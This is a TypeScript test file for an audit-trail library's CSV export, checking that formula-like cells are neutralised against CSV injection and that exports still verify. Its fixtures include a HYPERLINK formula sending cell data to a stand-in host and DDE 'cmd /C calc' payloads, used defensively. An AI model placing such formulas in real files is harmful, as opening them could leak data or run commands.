import type { KeyObject } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { GENESIS_HASH, type ArtifactEvent, type SealedArtifact } from '@countersign/contracts';
import {
  exportCsvHeader,
  generateSigningKey,
  parseCsvRecord,
  recordToCsvRow,
  sealArtifact,
  sealTrailer,
  spreadsheetText,
  toCsvRow,
  trailerToCsvRow,
  verifyExport,
  verifyExportParallel,
  type RecordSubject,
} from '../src/index.ts';
import { eventAt, voteEvent } from './factories.ts';

// Cells people and agents wrote, shown in a CSV export, must not run as formulas when a
// compliance officer opens the file in a spreadsheet (CSV injection), and the export must still
// verify. The JSONL form and the signed `canonical` keep every value exactly as written.

const key = generateSigningKey();
const keys: Map<string, KeyObject> = new Map([[key.keyId, key.publicKey]]);

const HYPERLINK = '=HYPERLINK("https://evil.test/?d="&A1,"details")';
const events: ArtifactEvent[] = [
  { ...(eventAt(0) as Extract<ArtifactEvent, { kind: 'action.escalated' }>), reasons: ['+1 risk: amount above threshold'] },
  voteEvent(1, { reason: HYPERLINK }),
  voteEvent(2, { reason: '@SUM(1+1)*cmd|" /C calc"!A0' }),
  voteEvent(3, { reason: '\tlooks fine' }),
  voteEvent(4, { reason: '-2+3' }),
  voteEvent(5, { reason: 'a = b, @home' }),
  voteEvent(6, { reason: "'=4+4" }),
  voteEvent(7, { reason: '  =1+1' }),
];

function sealed(): SealedArtifact[] {
  const out: SealedArtifact[] = [];
  let prevHash = GENESIS_HASH;
  for (const [i, event] of events.entries()) {
    const a = sealArtifact({ seq: i + 1, prevHash, at: new Date(Date.parse('2025-03-01T09:00:00.000Z') + i * 1000), event, key });
    out.push(a);
    prevHash = a.hash;
  }
  return out;
}

const artifacts = sealed();
const subject: RecordSubject = { type: 'payment.send', resource: '@acct/ops', summary: '=cmd|" /C calc"!A0', params: { note: '=1+1' } };
const trailer = sealTrailer({
  records: artifacts.length,
  firstSeq: 1,
  lastSeq: artifacts.length,
  lastHash: artifacts.at(-1)!.hash,
  from: null,
  to: null,
  exportedAt: new Date('2025-03-02T00:00:00.000Z'),
  key,
});
const lines = [exportCsvHeader(), ...artifacts.map((a) => recordToCsvRow(a, a.actionId ? subject : null)), trailerToCsvRow(trailer)];
const header = parseCsvRecord(lines[0]!)!;
const cell = (row: number, name: string): string => parseCsvRecord(lines[row]!)![header.indexOf(name)]!;
const withCell = (row: number, name: string, value: string, from: string[] = lines): string[] => {
  const out = [...from];
  const fields = parseCsvRecord(out[row]!)!;
  fields[header.indexOf(name)] = value;
  out[row] = toCsvRow(fields);
  return out;
};

describe('a CSV export read from a file, as `countersign verify` reads it', () => {
  // A reason typed with Windows line breaks, inside a quoted field: the file's lines end in CRLF
  // too, and only the row's own terminator is dropped.
  const crlf = voteEvent(1, { reason: 'checked the runbook\r\nand the rollback plan\r\n- ok' });
  const record = sealArtifact({ seq: 1, prevHash: GENESIS_HASH, at: new Date('2025-03-01T09:00:00.000Z'), event: crlf, key });
  const end = sealTrailer({ records: 1, firstSeq: 1, lastSeq: 1, lastHash: record.hash, from: null, to: null, exportedAt: new Date('2025-03-02T00:00:00.000Z'), key });
  const file = [exportCsvHeader(), recordToCsvRow(record, null), trailerToCsvRow(end)].join('\r\n') + '\r\n';

  it('verifies with a CRLF line break inside a shown cell (single thread and threads)', async () => {
    const physical = file.split('\n');
    expect(physical.length).toBeGreaterThan(4);
    expect(await verifyExport(physical, keys)).toMatchObject({ ok: true, records: 1 });
    expect(await verifyExportParallel(physical, keys, { threads: 2, minLinesForThreads: 0 })).toMatchObject({ ok: true, records: 1 });
    // Still checked: the cell with LF where the signed reason has CRLF is not what was signed.
    expect((await verifyExport(file.replaceAll('\r\nand', '\nand').split('\n'), keys)).problems[0]).toMatchObject({ code: 'field_mismatch' });
  });
});

describe('CSV cells a spreadsheet would evaluate', () => {
  it('are written as text: a leading apostrophe before =, +, -, @, tab or carriage return', () => {
    expect(cell(1, 'reason')).toBe("'+1 risk: amount above threshold");
    expect(cell(2, 'reason')).toBe(`'${HYPERLINK}`);
    expect(cell(3, 'reason')).toBe('\'@SUM(1+1)*cmd|" /C calc"!A0');
    expect(cell(4, 'reason')).toBe("'\tlooks fine");
    expect(cell(5, 'reason')).toBe("'-2+3");
    expect(cell(2, 'resource')).toBe("'@acct/ops");
    expect(cell(2, 'summary')).toBe('\'=cmd|" /C calc"!A0');
    // After spaces a trimming import would drop; and one cell per value: `'=4+4` is not `=4+4`.
    expect(cell(8, 'reason')).toBe("'  =1+1");
    expect(cell(7, 'reason')).toBe("''=4+4");
  });

  it('are left alone otherwise, and the record columns are never changed', () => {
    expect(cell(6, 'reason')).toBe('a = b, @home');
    expect(cell(2, 'params')).toBe('{"note":"=1+1"}');
    expect(cell(2, 'decision')).toBe('approve');
    for (const [i, a] of artifacts.entries()) {
      expect([cell(i + 1, 'hash'), cell(i + 1, 'signature'), cell(i + 1, 'canonical')]).toEqual([a.hash, a.signature, a.canonical]);
    }
    expect(JSON.parse(cell(2, 'canonical')).event.reason).toBe(HYPERLINK);
    expect(spreadsheetText('approve')).toBe('approve');
  });

  it('verify: the export as written, and a cell written raw (an export from before), both pass; raw ones are counted', async () => {
    expect(await verifyExport(lines, keys)).toMatchObject({ ok: true, format: 'csv', records: artifacts.length, formulaRows: 0 });
    const raw = withCell(5, 'summary', '@SUM(1)', withCell(2, 'reason', HYPERLINK));
    expect(await verifyExport(raw, keys)).toMatchObject({ ok: true, formulaRows: 2 });
    // The same count from verifying threads (their outcomes travel packed).
    expect(await verifyExportParallel(raw, keys, { threads: 2, minLinesForThreads: 0, batchLines: 2 })).toMatchObject({ ok: true, formulaRows: 2, annotated: artifacts.length });
  });

  it('verify: a header cell that would run as a formula (an added column) is counted too', async () => {
    const added = lines.map((line, i) => toCsvRow([...parseCsvRecord(line)!, i === 0 ? HYPERLINK : '']));
    expect(await verifyExport(added, keys)).toMatchObject({ ok: true, records: artifacts.length, formulaRows: 1 });
    expect(await verifyExportParallel(added, keys, { threads: 2, minLinesForThreads: 0, batchLines: 2 })).toMatchObject({ ok: true, formulaRows: 1 });
    // With a row's own formula cell as well: both counted.
    const both = withCell(2, 'reason', HYPERLINK, added);
    expect(await verifyExport(both, keys)).toMatchObject({ ok: true, formulaRows: 2 });
    // A harmless added column counts nothing.
    const plain = lines.map((line, i) => toCsvRow([...parseCsvRecord(line)!, i === 0 ? 'reviewed by' : '']));
    expect(await verifyExport(plain, keys)).toMatchObject({ ok: true, formulaRows: 0 });
  });

  it('verify: any other value in a signed-body cell is refused, an apostrophe where none belongs included', async () => {
    expect((await verifyExport(withCell(2, 'reason', "'=HYPERLINK(\"https://other.test\")"), keys)).problems[0]).toMatchObject({ line: 3, code: 'field_mismatch' });
    expect((await verifyExport(withCell(2, 'decision', "'approve"), keys)).problems[0]).toMatchObject({ line: 3, code: 'field_mismatch' });
    expect((await verifyExport(withCell(6, 'reason', "'a = b, @home"), keys)).problems[0]).toMatchObject({ line: 7, code: 'field_mismatch' });
    // For the signed `'=4+4`: its own cell `''=4+4` or the raw value, never `=4+4`.
    expect((await verifyExport(withCell(7, 'reason', '=4+4'), keys)).problems[0]).toMatchObject({ line: 8, code: 'field_mismatch' });
    expect((await verifyExport(withCell(7, 'reason', "'''=4+4"), keys)).problems[0]).toMatchObject({ line: 8, code: 'field_mismatch' });
  });
});
